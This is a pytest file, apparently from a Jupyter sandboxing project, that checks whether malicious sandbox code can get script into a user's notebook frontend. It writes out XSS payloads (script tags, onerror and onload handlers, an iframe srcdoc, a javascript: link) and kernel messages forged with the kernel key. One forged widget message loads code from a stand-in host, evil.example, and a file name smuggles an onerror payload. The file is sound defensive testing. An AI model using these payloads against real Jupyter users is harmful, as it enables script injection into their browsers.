"""Script in outputs: sandbox code cannot get a live script into the user's Jupyter page.

The attack is the code a malicious sandbox runs: IPython's `Javascript`, HTML with
`<script>`, `onerror=` and `<iframe srcdoc>`, markdown with raw HTML, an SVG with `onload`, a
widget view, and iopub messages it forges and signs with its own kernel key. Each surface that
shows outputs to a person must deliver only safe bundles: `%%sandbox` in a notebook run by
nbclient (what JupyterLab would be sent), and the provisioner's relay under a real
jupyter_client KernelManager. The browser itself is in tests/integration/test_jupyterlab.py.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from jupyter_client.kernelspec import KernelSpecManager
from jupyter_client.manager import KernelManager
from nbclient import NotebookClient
from nbformat.v4 import new_code_cell, new_notebook

from jupyter_sandbox import Client
from jupyter_sandbox.jupyter.kernelspec import kernel_json
from tests.adversarial.conftest import is_gvisor
from tests.conftest import TEST_LABEL, labelled_objects, remove_labelled
from tests.unit.test_output_safety import problems

pytestmark = pytest.mark.docker

ATTACK = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(Javascript("window.__pwned = 1"))
display(HTML("<b>kept</b><script>window.__pwned=1</script>"
             "<img src=x onerror='window.__pwned=1'>"
             "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>"))
display(Markdown("**md** <img src=x onerror='window.__pwned=1'> [x](javascript:window.__pwned=1)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'/>"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2},
         "text/plain": "a widget"}, raw=True)
k = get_ipython().kernel
k.session.send(k.iopub_socket, "display_data",
               {"data": {"text/html": "forged<script>window.__pwned=1</script>",
                         "application/javascript": "window.__pwned=1"},
                "metadata": {"text/html": {"isolated": False}}},
               parent=k.get_parent())
k.session.send(k.iopub_socket, "comm_open",
               {"comm_id": "c1", "target_name": "evil.widget",
                "data": {"state": {"_view_module": "https://evil.example/x.js"}}},
               parent=k.get_parent())
k.session.send(k.iopub_socket, "made_up_type", {"html": "<script>1</script>"},
               parent=k.get_parent())
print("attack done")
"""


def check_bundles(bundles: list[dict[str, Any]]) -> list[str]:
    """Every HTML the frontend would render; fails on any executable type or script."""
    html: list[str] = []
    for bundle in bundles:
        assert set(bundle) <= {"text/plain", "text/html", "image/png", "application/json"}, bundle
        if "text/html" in bundle:
            source = bundle["text/html"]
            source = "".join(source) if isinstance(source, list) else source
            assert problems(source) == [], source
            html.append(source)
    return html


def test_magics_show_only_safe_outputs(
    home: Path, test_label: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("JUPYTER_SANDBOX_HOME", str(home))
    monkeypatch.setenv("JUPYTER_SANDBOX_EXTRA_LABELS", json.dumps({TEST_LABEL: test_label}))
    sources = [
        "%load_ext jupyter_sandbox",
        "%sandbox create --name script --memory 512m",
        "%%sandbox\n" + ATTACK,
        "%%sandbox\nfrom IPython.display import HTML\nHTML('<img src=x onerror=alert(1)>last')",
        "%%sandbox\nimport pandas as pd\npd.DataFrame({'a': [1, 2]})",
        "%sandbox delete",
    ]
    nb = new_notebook(cells=[new_code_cell(s) for s in sources])
    nb.metadata["kernelspec"] = {"name": "python3", "language": "python", "display_name": "P"}
    try:
        NotebookClient(nb, timeout=120, allow_errors=False, kernel_name="python3").execute()
    finally:
        remove_labelled(f"{TEST_LABEL}={test_label}")
    attack, last, frame = nb.cells[2], nb.cells[3], nb.cells[4]
    bundles = [dict(o["data"]) for c in (attack, last, frame) for o in c.outputs if "data" in o]
    html = check_bundles(bundles)
    assert "<b>kept</b><img>" in html
    assert any("<strong>md</strong>" in h for h in html)
    assert any(h.startswith('<img src="data:image/svg+xml;base64,') for h in html)
    assert "<img>last" in html
    assert any('<table border="1" class="dataframe">' in h for h in html)
    assert "attack done\n" in "".join(o.get("text", "") for o in attack.outputs)
    # The magics re-display the outputs they receive; the forged ones never become Execution
    # outputs of another shape, and nothing else reaches the notebook.
    assert not any("forged<script" in json.dumps(o) for o in attack.outputs)


@pytest.fixture
def kernel_manager(tmp_path: Path, home: Path, test_label: str) -> Iterator[KernelManager]:
    """A started sandbox kernel under a real KernelManager (under gVisor, on its encrypted tcp
    channel); fails the test on leaks."""
    folder = tmp_path / "kernels" / "sbx"
    folder.mkdir(parents=True)
    spec = kernel_json(memory="512m", home=str(home), extra_labels={TEST_LABEL: test_label})
    (folder / "kernel.json").write_text(json.dumps(spec))
    km = KernelManager(
        kernel_name="sbx", kernel_spec_manager=KernelSpecManager(kernel_dirs=[str(folder.parent)])
    )
    km.start_kernel()
    try:
        yield km
    finally:
        km.shutdown_kernel(now=True)
        leaked = remove_labelled(f"{TEST_LABEL}={test_label}")
        assert not leaked, f"leaked: {leaked}"


def test_the_jupyter_server_never_receives_an_unfiltered_sandbox_message(
    kernel_manager: KernelManager, home: Path, test_label: str
) -> None:
    km = kernel_manager
    with Client(home=home) as client:
        record = client._store.get(km.provisioner.container_id)
        assert record is not None
        kernel_side = client._backend.kernel_endpoint(record.socket_dir, record.kernel_key)
    assert kernel_side.transport == ("tcp" if is_gvisor() else "ipc")
    # The manager (the Jupyter server) holds the relay's sockets and key, not the kernel's,
    # and never a Curve key of the sandbox's channel.
    assert km.transport == "ipc"
    assert kernel_side.folder is not None
    assert not str(km.ip).startswith(str(kernel_side.folder))
    assert km.session.key != kernel_side.key.encode()
    assert not any(name.startswith("curve") for name in km.get_connection_info())
    assert labelled_objects(f"{TEST_LABEL}={test_label}")["container"]

    kc = km.client()
    kc.start_channels()
    seen: list[dict[str, Any]] = []
    try:
        kc.wait_for_ready(timeout=60)
        reply = kc.execute_interactive(ATTACK, timeout=60, output_hook=seen.append)
        inspect_id = kc.inspect("HTML", 4, detail_level=1)
        inspect = kc.get_shell_msg(timeout=30)
    finally:
        kc.stop_channels()
    assert reply["content"]["status"] == "ok"
    assert inspect["parent_header"]["msg_id"] == inspect_id
    types = {m["msg_type"] for m in seen}
    assert types <= {"status", "execute_input", "display_data", "stream"}, types
    html = check_bundles([m["content"]["data"] for m in seen if m["msg_type"] == "display_data"])
    assert "<b>kept</b><img>" in html
    assert "forged" in html  # the forged message arrives, but only its safe part
    assert all(m["content"]["metadata"] == {} for m in seen if m["msg_type"] == "display_data")
    check_bundles([inspect["content"]["data"]])
    stdout = "".join(m["content"]["text"] for m in seen if m["msg_type"] == "stream")
    assert stdout == "attack done\n"


HOSTILE_NAME = "<img src=x onerror=window.__pwned=1>.txt"


def test_the_panel_escapes_names_the_sandbox_chose(client: Client) -> None:
    from jupyter_sandbox.jupyter.widgets import _ELLIPSIS, Panel

    container = client.containers.create(name="<b onmouseover=x>panel</b>", memory_limit="512m")
    execution = client.containers.execute(
        container.id, f"open('/mnt/data/{HOSTILE_NAME}', 'w').write('x')"
    )
    assert execution.status == "ok"
    panel = Panel(client=client, refresh_seconds=None)
    try:
        panel.select(container.id)
        shown = [row.children[0].value for row in panel.files.children]
        shown += [
            cell.value
            for row in panel.rows.children[1:]
            for cell in row.children
            if isinstance(getattr(cell, "value", None), str)
        ]
        download = panel.files.children[0].children[1]
        download.click()
        shown.append(panel.download_link.value)
    finally:
        panel.close()
        Path(HOSTILE_NAME).unlink(missing_ok=True)
        client.containers.delete(container.id)
    assert any("&lt;img src=x onerror=window.__pwned=1&gt;.txt" in value for value in shown)
    assert any("&lt;b onmouseover=x&gt;panel&lt;/b&gt;" in value for value in shown)
    for value in shown:  # the panel's own download link and ellipsis style are allowed
        found = problems(re.sub(f'style="{re.escape(_ELLIPSIS)}[^"]*"', "", value))
        assert [p for p in found if not p.startswith("href data:application/octet-stream")] == []
